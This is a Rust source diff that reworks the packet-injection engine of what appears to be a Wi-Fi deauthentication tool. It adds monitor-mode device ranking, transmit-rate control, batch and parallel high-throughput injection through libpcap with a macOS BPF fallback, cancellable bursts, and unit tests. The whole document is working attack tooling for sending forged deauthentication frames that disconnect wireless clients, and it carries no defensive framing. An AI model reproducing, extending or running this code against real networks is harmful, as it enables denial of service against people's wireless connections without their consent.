@@ -4,11 +4,14 @@
 //! across Linux, Windows, and macOS platforms.
 
 use crate::{DeauthError, Result};
-use crate::core::packet::DeauthPacket;
+use crate::core::packet::{self, DeauthPacket, MacAddress, TxRate};
+use crate::core::warnings::{WarningCategory, Warnings};
+use crate::network::channel::WiFiBand;
 use bytes::BytesMut;
 use pcap::{Capture, Device, Active, Activated};
 use std::sync::Arc;
-use std::time::Duration;
+use std::time::{Duration, SystemTime};
+use tokio_util::sync::CancellationToken;
 use tracing::{debug, error, info, warn};
 
 /// Result of packet injection attempt
@@ -17,13 +20,118 @@ pub struct InjectionResult {
     pub success: bool,
     pub bytes_sent: usize,
     pub error: Option<String>,
+    
+    /// Destination of the frame
+    pub target: MacAddress,
+    
+    /// Time spent serializing and sending the frame
+    pub latency: Duration,
+    
+    /// When the attempt finished
+    pub timestamp: SystemTime,
+}
+
+impl InjectionResult {
+    /// Result of a frame to `target` sent in full
+    pub fn sent(target: MacAddress, bytes_sent: usize, latency: Duration) -> Self {
+        Self {
+            success: true,
+            bytes_sent,
+            error: None,
+            target,
+            latency,
+            timestamp: SystemTime::now(),
+        }
+    }
+    
+    /// Result of a frame to `target` that was not sent
+    pub fn failed(target: MacAddress, error: impl Into<String>, latency: Duration) -> Self {
+        Self {
+            success: false,
+            bytes_sent: 0,
+            error: Some(error.into()),
+            target,
+            latency,
+            timestamp: SystemTime::now(),
+        }
+    }
+}
+
+/// Aggregate of a batch of injection results
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct InjectionSummary {
+    pub total: usize,
+    pub successful: usize,
+    pub failed: usize,
+    pub bytes_sent: usize,
+}
+
+impl InjectionSummary {
+    /// Fold a batch of results into totals
+    pub fn from_results(results: &[InjectionResult]) -> Self {
+        results.iter().fold(Self::default(), |mut summary, result| {
+            summary.total += 1;
+            summary.bytes_sent += result.bytes_sent;
+            if result.success {
+                summary.successful += 1;
+            } else {
+                summary.failed += 1;
+            }
+            summary
+        })
+    }
+    
+    /// Fraction of results that succeeded (0.0 - 1.0)
+    pub fn success_rate(&self) -> f64 {
+        if self.total == 0 {
+            0.0
+        } else {
+            self.successful as f64 / self.total as f64
+        }
+    }
+}
+
+/// Frame transmitter driven by the engine's worker threads
+///
+/// Frames arrive fully serialized, radiotap header included. Implementations
+/// are shared between workers, so they must synchronize internally.
+pub trait Injector: Send + Sync {
+    /// Transmit a frame, returning the number of bytes sent
+    fn inject_frame(&self, frame: &[u8]) -> Result<usize>;
+}
+
+/// Injector that logs frames without transmitting them
+#[derive(Debug, Default, Clone, Copy)]
+pub struct SimulatedInjector;
+
+impl Injector for SimulatedInjector {
+    fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+        debug!("Would inject {} bytes", frame.len());
+        Ok(frame.len())
+    }
 }
 
+/// Default largest frame handed to `sendpacket`: the 802.11 maximum MPDU
+/// (2346 bytes) plus room for a radiotap header
+pub const DEFAULT_MAX_FRAME_SIZE: usize = 2346 + 64;
+
 /// High-performance packet injector using libpcap
+///
+/// `PacketInjector` is `Send` and `Sync`: it can be moved onto a worker
+/// thread or shared by the engine's workers as an `Injector`. pcap handles are
+/// `Send` but not `Sync`, so the open capture (and the macOS BPF fallback)
+/// sits behind a mutex and sends from several threads are serialized.
+/// Configuration setters take `&mut self` and belong before the injector is
+/// shared.
 pub struct PacketInjector {
-    device: Arc<parking_lot::RwLock<Device>>,
-    capture: Option<Capture<Active>>,
+    device: Device,
+    capture: parking_lot::Mutex<Option<Capture<Active>>>,
     interface_name: String,
+    max_frame_size: usize,
+    tx_rate: Option<TxRate>,
+    warnings: Option<Warnings>,
+    #[cfg(target_os = "macos")]
+    bpf: Option<parking_lot::Mutex<super::bpf::BpfWriter>>,
 }
 
 impl PacketInjector {
@@ -31,20 +139,85 @@ impl PacketInjector {
     pub fn new(interface_name: &str) -> Result<Self> {
         info!("Creating packet injector for interface: {}", interface_name);
         
-        // Find the device
-        let device = Device::list()
-            .map_err(|e| DeauthError::InterfaceError(format!("Failed to list devices: {}", e)))?
-            .into_iter()
-            .find(|d| d.name == interface_name)
-            .ok_or_else(|| DeauthError::InterfaceError(format!("Interface {} not found", interface_name)))?;
-        
+        let device = resolve_device(interface_name, Device::list)?;
+        Ok(Self::from_device(device))
+    }
+    
+    /// List the pcap devices that may back the interface `interface_name`
+    ///
+    /// Some systems report several devices for one logical interface, e.g.
+    /// duplicate `wlan0` entries or a `wlan0mon` monitor interface next to
+    /// `wlan0`. Candidates are ordered with monitor-capable devices first;
+    /// pass the chosen one to `from_device`.
+    pub fn list_candidates(interface_name: &str) -> Result<Vec<Device>> {
+        let devices = Device::list().map_err(|e| DeauthError::interface_from_pcap(e, "listing devices"))?;
+        Ok(rank_candidates(interface_name, devices))
+    }
+    
+    /// Create a packet injector for an already resolved device
+    ///
+    /// Avoids re-enumerating devices when several injectors share one interface.
+    pub fn from_device(device: Device) -> Self {
         debug!("Found device: {} - {}", device.name, device.desc.as_ref().unwrap_or(&"No description".to_string()));
         
-        Ok(Self {
-            device: Arc::new(parking_lot::RwLock::new(device)),
-            capture: None,
-            interface_name: interface_name.to_string(),
-        })
+        Self {
+            interface_name: device.name.clone(),
+            device,
+            capture: parking_lot::Mutex::new(None),
+            max_frame_size: DEFAULT_MAX_FRAME_SIZE,
+            tx_rate: None,
+            warnings: None,
+            #[cfg(target_os = "macos")]
+            bpf: None,
+        }
+    }
+    
+    /// Report setup problems to `warnings` as well as the log
+    pub fn with_warnings(mut self, warnings: Warnings) -> Self {
+        self.warnings = Some(warnings);
+        self
+    }
+    
+    /// Fall back to writing the interface's BPF device when pcap cannot send
+    #[cfg(target_os = "macos")]
+    pub fn enable_bpf_fallback(&mut self, data: &super::interface::MacOSInterfaceData) -> Result<()> {
+        let path = data.bpf_device.as_deref().ok_or_else(|| {
+            DeauthError::InterfaceError(format!("No BPF device known for {}", self.interface_name))
+        })?;
+        
+        self.bpf = Some(parking_lot::Mutex::new(super::bpf::BpfWriter::open(path, &self.interface_name)?));
+        Ok(())
+    }
+    
+    /// Set the largest frame accepted for injection, radiotap header included
+    pub fn set_max_frame_size(&mut self, max_frame_size: usize) {
+        self.max_frame_size = max_frame_size;
+    }
+    
+    /// Get the largest frame accepted for injection
+    pub fn max_frame_size(&self) -> usize {
+        self.max_frame_size
+    }
+    
+    /// Request that frames go out at `tx_rate_mbps` on `band`
+    ///
+    /// The rate is carried in the radiotap header; drivers that ignore it
+    /// keep using their own rate selection.
+    pub fn set_tx_rate_mbps(&mut self, tx_rate_mbps: f64, band: WiFiBand) -> Result<()> {
+        let rate = TxRate::from_mbps(tx_rate_mbps, band)?;
+        info!("Injecting on {} at {} Mbps", self.interface_name, rate.mbps());
+        self.tx_rate = Some(rate);
+        Ok(())
+    }
+    
+    /// Let the driver choose the transmit rate again
+    pub fn clear_tx_rate(&mut self) {
+        self.tx_rate = None;
+    }
+    
+    /// Transmit rate requested for injected frames, if any
+    pub fn tx_rate(&self) -> Option<TxRate> {
+        self.tx_rate
     }
     
     /// Initialize the injector with capture capabilities
@@ -53,54 +226,60 @@ impl PacketInjector {
         
         // Open the device for capture and injection
         let mut capture = Capture::from_device(self.interface_name.as_str())
-            .map_err(|e| DeauthError::InterfaceError(format!("Failed to open device: {}", e)))?
+            .map_err(|e| DeauthError::interface_from_pcap(e, format!("opening device {}", self.interface_name)))?
             .promisc(true)
             .snaplen(65535)
             .timeout(1)
             .open()
-            .map_err(|e| DeauthError::InterfaceError(format!("Failed to open capture: {}", e)))?;
+            .map_err(|e| DeauthError::interface_from_pcap(e, format!("activating capture on {}", self.interface_name)))?;
         
         // Set immediate mode for better performance
         if let Err(e) = capture.setnonblock() {
             warn!("Failed to set non-blocking mode: {}", e);
+            if let Some(ref warnings) = self.warnings {
+                warnings.push(
+                    WarningCategory::Interface,
+                    format!("{} could not be put in non-blocking mode: {}", self.interface_name, e),
+                );
+            }
         }
         
-        self.capture = Some(capture);
+        *self.capture.get_mut() = Some(capture);
         
         info!("Packet injector initialized successfully");
         Ok(())
     }
     
+    /// pcap device this injector sends on
+    pub fn device(&self) -> &Device {
+        &self.device
+    }
+    
     /// Inject a single packet
-    pub fn inject_packet(&mut self, packet: &DeauthPacket) -> Result<InjectionResult> {
+    pub fn inject_packet(&self, packet: &DeauthPacket) -> Result<InjectionResult> {
         let start_time = std::time::Instant::now();
         
-        // Serialize the packet
+        // Serialize the packet, requesting the configured rate
         let packet_bytes = packet.to_bytes();
-        let packet_data = packet_bytes.as_ref();
+        let rated = self.tx_rate.and_then(|rate| packet::with_tx_rate(&packet_bytes, rate));
+        let packet_data = rated.as_deref().unwrap_or(&packet_bytes);
         
         debug!("Injecting {} bytes for target {}", packet_data.len(), packet.destination);
         
+        self.check_frame_size(packet_data)?;
+        
         // Inject the packet
         match self.inject_raw(packet_data) {
             Ok(_) => {
                 let elapsed = start_time.elapsed();
                 debug!("Successfully injected {} bytes in {:?}", packet_data.len(), elapsed);
                 
-                Ok(InjectionResult {
-                    success: true,
-                    bytes_sent: packet_data.len(),
-                    error: None,
-                })
+                Ok(InjectionResult::sent(packet.destination, packet_data.len(), elapsed))
             }
             Err(e) => {
                 error!("Failed to inject packet: {}", e);
                 
-                Ok(InjectionResult {
-                    success: false,
-                    bytes_sent: 0,
-                    error: Some(e.to_string()),
-                })
+                Ok(InjectionResult::failed(packet.destination, e.to_string(), start_time.elapsed()))
             }
         }
     }
@@ -110,10 +289,27 @@ impl PacketInjector {
         &mut self,
         packets: &[DeauthPacket],
         interval: Duration,
+    ) -> Result<Vec<InjectionResult>> {
+        self.inject_burst_until(packets, interval, &CancellationToken::new())
+    }
+    
+    /// Inject multiple packets with rate limiting, stopping early when `cancel` fires
+    ///
+    /// Returns results only for the packets that were sent.
+    pub fn inject_burst_until(
+        &mut self,
+        packets: &[DeauthPacket],
+        interval: Duration,
+        cancel: &CancellationToken,
     ) -> Result<Vec<InjectionResult>> {
         let mut results = Vec::with_capacity(packets.len());
         
         for packet in packets {
+            if cancel.is_cancelled() {
+                debug!("Burst cancelled after {} of {} packets", results.len(), packets.len());
+                break;
+            }
+            
             let result = self.inject_packet(packet)?;
             results.push(result);
             
@@ -123,20 +319,60 @@ impl PacketInjector {
             }
         }
         
+        let summary = InjectionSummary::from_results(&results);
+        debug!(
+            "Burst finished: {}/{} frames sent, {} bytes",
+            summary.successful, summary.total, summary.bytes_sent
+        );
+        
         Ok(results)
     }
     
+    /// Reject frames the kernel would refuse with an opaque error
+    fn check_frame_size(&self, data: &[u8]) -> Result<()> {
+        if data.len() > self.max_frame_size {
+            return Err(DeauthError::InjectionError(format!(
+                "frame too large: {} bytes exceeds the {} byte limit on {}",
+                data.len(), self.max_frame_size, self.interface_name
+            )));
+        }
+        
+        Ok(())
+    }
+    
     /// Inject raw packet data
-    fn inject_raw(&mut self, data: &[u8]) -> Result<()> {
-        if let Some(ref mut capture) = self.capture {
-            capture.sendpacket(data)
-                .map_err(|e| DeauthError::InjectionError(format!("Packet injection failed: {}", e)))?;
-            Ok(())
-        } else {
-            Err(DeauthError::InjectionError("Injector not initialized".to_string()))
+    fn inject_raw(&self, data: &[u8]) -> Result<()> {
+        let mut capture = self.capture.lock();
+        let Some(capture) = capture.as_mut() else {
+            return Err(DeauthError::InjectionError("Injector not initialized".to_string()));
+        };
+        
+        match capture.sendpacket(data) {
+            Ok(()) => Ok(()),
+            Err(e) => self.send_fallback(
+                data,
+                DeauthError::injection_from_pcap(e, format!("sending frame on {}", self.interface_name)),
+            ),
         }
     }
     
+    /// Retry a frame pcap failed to send on the BPF device, if one is open
+    #[cfg(target_os = "macos")]
+    fn send_fallback(&self, data: &[u8], error: DeauthError) -> Result<()> {
+        match self.bpf {
+            Some(ref bpf) => {
+                debug!("pcap send failed on {}, writing to BPF directly: {}", self.interface_name, error);
+                bpf.lock().write_frame(data).map(|_| ())
+            }
+            None => Err(error),
+        }
+    }
+    
+    #[cfg(not(target_os = "macos"))]
+    fn send_fallback(&self, _data: &[u8], error: DeauthError) -> Result<()> {
+        Err(error)
+    }
+    
     /// Get interface statistics
     pub fn get_stats(&self) -> Result<InjectionStats> {
         // This would interface with the capture device to get statistics
@@ -153,7 +389,7 @@ impl PacketInjector {
     pub fn close(&mut self) {
         info!("Closing packet injector for {}", self.interface_name);
         
-        if let Some(capture) = self.capture.take() {
+        if let Some(capture) = self.capture.get_mut().take() {
             drop(capture);
         }
         
@@ -161,6 +397,25 @@ impl PacketInjector {
     }
 }
 
+impl Injector for PacketInjector {
+    fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+        let rated = self.tx_rate.and_then(|rate| packet::with_tx_rate(frame, rate));
+        let data = rated.as_deref().unwrap_or(frame);
+        
+        self.check_frame_size(data)?;
+        self.inject_raw(data)?;
+        Ok(data.len())
+    }
+}
+
+/// A locked injector, e.g. the GUI's `PacketInjector` that it also reads
+/// statistics from and closes, can be handed to the engine as is
+impl<I: Injector> Injector for parking_lot::Mutex<I> {
+    fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+        self.lock().inject_frame(frame)
+    }
+}
+
 /// Injection statistics
 #[derive(Debug, Clone)]
 pub struct InjectionStats {
@@ -170,8 +425,55 @@ pub struct InjectionStats {
     pub errors: u64,
 }
 
+/// Find the device named `interface_name` in the list returned by `list_devices`
+///
+/// When several devices share the name, the one ranked first by
+/// `rank_candidates` is used.
+fn resolve_device<F>(interface_name: &str, list_devices: F) -> Result<Device>
+where
+    F: FnOnce() -> std::result::Result<Vec<Device>, pcap::Error>,
+{
+    let devices = list_devices().map_err(|e| DeauthError::interface_from_pcap(e, "listing devices"))?;
+    
+    rank_candidates(interface_name, devices)
+        .into_iter()
+        .find(|d| d.name == interface_name)
+        .ok_or_else(|| DeauthError::InterfaceError(format!("Interface {} not found", interface_name)))
+}
+
+/// Interface name without a monitor-mode suffix (`wlan0mon` -> `wlan0`)
+fn base_interface_name(name: &str) -> &str {
+    name.strip_suffix("mon").filter(|base| !base.is_empty()).unwrap_or(name)
+}
+
+/// Heuristic score of how likely a device is to inject in monitor mode
+fn monitor_score(device: &Device) -> u8 {
+    let monitor_named = device.name.ends_with("mon")
+        || device
+            .desc
+            .as_ref()
+            .is_some_and(|desc| desc.to_ascii_lowercase().contains("monitor"));
+    
+    u8::from(monitor_named) * 2 + u8::from(device.flags.is_wireless())
+}
+
+/// Keep the devices belonging to the logical interface `interface_name`, best first
+///
+/// The sort is stable, so equally ranked devices keep pcap's order.
+fn rank_candidates(interface_name: &str, devices: Vec<Device>) -> Vec<Device> {
+    let base = base_interface_name(interface_name);
+    let mut candidates: Vec<Device> = devices
+        .into_iter()
+        .filter(|d| base_interface_name(&d.name) == base)
+        .collect();
+    
+    candidates.sort_by_key(|d| std::cmp::Reverse(monitor_score(d)));
+    candidates
+}
+
 /// High-throughput batch injector
 pub struct BatchInjector {
+    device: Device,
     injectors: Vec<PacketInjector>,
     current_index: std::sync::atomic::AtomicUsize,
 }
@@ -179,20 +481,31 @@ pub struct BatchInjector {
 impl BatchInjector {
     /// Create a batch injector with multiple parallel injectors
     pub fn new(interface_name: &str, num_injectors: usize) -> Result<Self> {
-        let mut injectors = Vec::with_capacity(num_injectors);
-        
-        for i in 0..num_injectors {
-            let mut injector = PacketInjector::new(interface_name)?;
-            injector.initialize()?;
-            injectors.push(injector);
-            
-            debug!("Created injector {} for {}", i, interface_name);
-        }
+        let device = resolve_device(interface_name, Device::list)?;
+        Self::from_device(device, num_injectors)
+    }
+    
+    /// Create a batch injector whose injectors all share one resolved device
+    ///
+    /// If any injector fails to open, those already opened are closed before
+    /// the error is returned.
+    pub fn from_device(device: Device, num_injectors: usize) -> Result<Self> {
+        let mut batch = Self::uninitialized(device, num_injectors);
+        open_all(&mut batch.injectors, PacketInjector::initialize, PacketInjector::close)?;
+        Ok(batch)
+    }
+    
+    /// Build injectors sharing `device` without opening them
+    fn uninitialized(device: Device, num_injectors: usize) -> Self {
+        let injectors = (0..num_injectors)
+            .map(|_| PacketInjector::from_device(device.clone()))
+            .collect();
         
-        Ok(Self {
+        Self {
+            device,
             injectors,
             current_index: std::sync::atomic::AtomicUsize::new(0),
-        })
+        }
     }
     
     /// Inject a packet using round-robin distribution
@@ -214,11 +527,17 @@ impl BatchInjector {
         let results: Vec<_> = packets
             .par_iter()
             .map(|packet| {
-                let mut local_injector = PacketInjector::new(&self.injectors[0].interface_name)?;
+                let local_injector = PacketInjector::from_device(self.device.clone());
                 local_injector.inject_packet(packet)
             })
             .collect::<Result<Vec<_>>>()?;
         
+        let summary = InjectionSummary::from_results(&results);
+        debug!(
+            "Parallel injection finished: {}/{} frames sent, {} bytes",
+            summary.successful, summary.total, summary.bytes_sent
+        );
+        
         Ok(results)
     }
     
@@ -231,6 +550,27 @@ impl BatchInjector {
     }
 }
 
+/// Open each item in order with `open`
+///
+/// On the first failure every item opened so far is passed to `close`, in
+/// reverse order, and the error is returned; nothing is left open.
+fn open_all<T>(
+    items: &mut [T],
+    mut open: impl FnMut(&mut T) -> Result<()>,
+    mut close: impl FnMut(&mut T),
+) -> Result<()> {
+    for i in 0..items.len() {
+        if let Err(e) = open(&mut items[i]) {
+            warn!("Opening item {} of {} failed, closing {} already opened: {}", i + 1, items.len(), i, e);
+            items[..i].iter_mut().rev().for_each(&mut close);
+            return Err(e);
+        }
+        debug!("Opened item {} of {}", i + 1, items.len());
+    }
+    
+    Ok(())
+}
+
 /// Platform-specific injection optimizations
 mod platform_optimizations {
     use super::*;
@@ -239,7 +579,7 @@ mod platform_optimizations {
     #[cfg(target_os = "linux")]
     pub fn optimize_for_linux(injector: &mut PacketInjector) -> Result<()> {
         // Set socket buffer sizes for better performance
-        if let Some(ref mut capture) = injector.capture {
+        if injector.capture.get_mut().is_some() {
             // This would use pcap_set_buffer_size if available
             debug!("Applied Linux-specific optimizations");
         }
@@ -283,11 +623,7 @@ impl RateLimitedInjector {
         if self.rate_limiter.try_acquire() {
             self.injector.inject_packet(packet)
         } else {
-            Ok(InjectionResult {
-                success: false,
-                bytes_sent: 0,
-                error: Some("Rate limit exceeded".to_string()),
-            })
+            Ok(InjectionResult::failed(packet.destination, "Rate limit exceeded", Duration::ZERO))
         }
     }
 }
@@ -340,15 +676,185 @@ mod tests {
     
     #[test]
     fn test_injection_result() {
-        let result = InjectionResult {
-            success: true,
-            bytes_sent: 100,
-            error: None,
-        };
+        let target = MacAddress::new([0x66, 0x77, 0x88, 0x99, 0xAA, 0xBB]);
+        let result = InjectionResult::sent(target, 100, Duration::from_micros(40));
         
         assert!(result.success);
         assert_eq!(result.bytes_sent, 100);
         assert!(result.error.is_none());
+        assert_eq!(result.target, target);
+        assert_eq!(result.latency, Duration::from_micros(40));
+    }
+    
+    #[test]
+    fn test_inject_packet_reports_target_and_timing() {
+        let client = MacAddress::new([0x66, 0x77, 0x88, 0x99, 0xAA, 0xBB]);
+        let ap = MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]);
+        let before = SystemTime::now();
+        
+        // Never initialized, so the send itself fails after the frame is built
+        let injector = PacketInjector::from_device(Device::from("wlan0"));
+        let result = injector
+            .inject_packet(&DeauthPacket::new(client, ap, ap, 7))
+            .expect("Should report the failed send");
+        
+        assert!(!result.success);
+        assert_eq!(result.target, client);
+        assert!(result.latency > Duration::ZERO);
+        assert!(result.timestamp >= before);
+        assert!(result.error.expect("Should carry the error").contains("not initialized"));
+    }
+    
+    #[test]
+    fn test_injection_summary() {
+        let target = MacAddress::new([0x66, 0x77, 0x88, 0x99, 0xAA, 0xBB]);
+        let sent = |bytes| InjectionResult::sent(target, bytes, Duration::ZERO);
+        let failed = || InjectionResult::failed(target, "send failed", Duration::ZERO);
+        
+        let summary = InjectionSummary::from_results(&[sent(34), failed(), sent(34), failed(), sent(40)]);
+        assert_eq!(summary, InjectionSummary { total: 5, successful: 3, failed: 2, bytes_sent: 108 });
+        assert!((summary.success_rate() - 0.6).abs() < f64::EPSILON);
+        
+        let empty = InjectionSummary::from_results(&[]);
+        assert_eq!(empty, InjectionSummary::default());
+        assert!(empty.success_rate().abs() < f64::EPSILON);
+    }
+    
+    #[test]
+    fn test_device_list_enumerated_once() {
+        let calls = std::cell::Cell::new(0);
+        let list_devices = || {
+            calls.set(calls.get() + 1);
+            Ok(vec![Device::from("eth0"), Device::from("wlan0mon")])
+        };
+        
+        let device = resolve_device("wlan0mon", list_devices).expect("Should find stubbed device");
+        let batch = BatchInjector::uninitialized(device, 4);
+        
+        assert_eq!(calls.get(), 1);
+        assert_eq!(batch.injectors.len(), 4);
+        assert!(batch.injectors.iter().all(|injector| injector.interface_name == "wlan0mon"));
+        
+        let missing = resolve_device("wlan1", || Ok(vec![Device::from("wlan0mon")]));
+        assert!(matches!(missing, Err(DeauthError::InterfaceError(_))));
+    }
+    
+    #[test]
+    fn test_failed_open_closes_opened_injectors() {
+        #[derive(Default)]
+        struct Handle {
+            open: bool,
+            closed: bool,
+        }
+        
+        let mut handles: Vec<Handle> = (0..4).map(|_| Handle::default()).collect();
+        let mut attempts = 0;
+        let result = open_all(
+            &mut handles,
+            |handle| {
+                attempts += 1;
+                if attempts == 3 {
+                    return Err(DeauthError::InterfaceError("Device busy".to_string()));
+                }
+                handle.open = true;
+                Ok(())
+            },
+            |handle| {
+                handle.open = false;
+                handle.closed = true;
+            },
+        );
+        
+        assert!(matches!(result, Err(DeauthError::InterfaceError(_))));
+        assert_eq!(attempts, 3);
+        assert!(handles[..2].iter().all(|handle| handle.closed && !handle.open));
+        assert!(handles[2..].iter().all(|handle| !handle.closed && !handle.open));
+        
+        let mut handles: Vec<Handle> = (0..4).map(|_| Handle::default()).collect();
+        open_all(&mut handles, |handle| { handle.open = true; Ok(()) }, |_| unreachable!()).expect("Should open all");
+        assert!(handles.iter().all(|handle| handle.open));
+    }
+    
+    #[test]
+    fn test_candidate_filtering() {
+        let wireless = |name: &str| {
+            let mut device = Device::from(name);
+            device.flags.if_flags = pcap::IfFlags::WIRELESS;
+            device
+        };
+        let devices = || {
+            vec![
+                Device::from("eth0"),
+                Device::from("wlan0"),
+                wireless("wlan0"),
+                Device::from("wlan0mon"),
+                wireless("wlan1"),
+                Device::from("mon"),
+            ]
+        };
+        
+        // Monitor interface first, then the wireless duplicate, then the plain entry
+        let ranked = rank_candidates("wlan0", devices());
+        let names: Vec<&str> = ranked.iter().map(|d| d.name.as_str()).collect();
+        assert_eq!(names, ["wlan0mon", "wlan0", "wlan0"]);
+        assert!(ranked[1].flags.is_wireless());
+        assert!(!ranked[2].flags.is_wireless());
+        
+        // Asking for the monitor name finds the same family
+        assert_eq!(rank_candidates("wlan0mon", devices()).len(), 3);
+        assert_eq!(rank_candidates("mon", devices()).len(), 1);
+        assert!(rank_candidates("wlan2", devices()).is_empty());
+        
+        // Resolving by name picks the best of the exact matches
+        let device = resolve_device("wlan0", || Ok(devices())).expect("Should find stubbed device");
+        assert!(device.flags.is_wireless());
+    }
+    
+    #[test]
+    fn test_oversized_frame_rejected() {
+        let mut injector = PacketInjector::from_device(Device::from("wlan0mon"));
+        assert_eq!(injector.max_frame_size(), DEFAULT_MAX_FRAME_SIZE);
+        
+        let oversized = vec![0u8; DEFAULT_MAX_FRAME_SIZE + 1];
+        match injector.check_frame_size(&oversized) {
+            Err(DeauthError::InjectionError(message)) => assert!(message.starts_with("frame too large")),
+            other => panic!("Expected size rejection, got {:?}", other),
+        }
+        
+        // The limit is configurable, and the check runs before the device is touched
+        injector.set_max_frame_size(16);
+        let packet = DeauthPacket::new(
+            MacAddress::new([0xFF; 6]),
+            MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
+            MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
+            1,
+        );
+        match injector.inject_packet(&packet) {
+            Err(DeauthError::InjectionError(message)) => assert!(message.starts_with("frame too large")),
+            other => panic!("Expected size rejection, got {:?}", other),
+        }
+        
+        assert!(injector.check_frame_size(&[0u8; 16]).is_ok());
+    }
+    
+    #[test]
+    fn test_injectors_are_send_and_sync() {
+        // Compile-time checks: the engine moves injectors onto worker threads and shares them
+        fn assert_send_sync<T: Send + Sync>() {}
+        assert_send_sync::<PacketInjector>();
+        assert_send_sync::<BatchInjector>();
+        
+        let injector: Arc<dyn Injector> = Arc::new(PacketInjector::from_device(Device::from("wlan0mon")));
+        let worker = std::thread::spawn(move || injector.inject_frame(&[0u8; 32]));
+        let result = worker.join().expect("Worker should not panic");
+        assert!(matches!(result, Err(DeauthError::InjectionError(message)) if message.contains("not initialized")));
+        
+        // So is one shared behind a lock, as the GUI keeps it
+        let shared = Arc::new(parking_lot::Mutex::new(PacketInjector::from_device(Device::from("wlan0mon"))));
+        let injector: Arc<dyn Injector> = Arc::clone(&shared) as Arc<dyn Injector>;
+        let worker = std::thread::spawn(move || injector.inject_frame(&[0u8; 32]));
+        assert!(worker.join().expect("Worker should not panic").is_err());
+        assert_eq!(Arc::strong_count(&shared), 1);
     }
     
     #[test]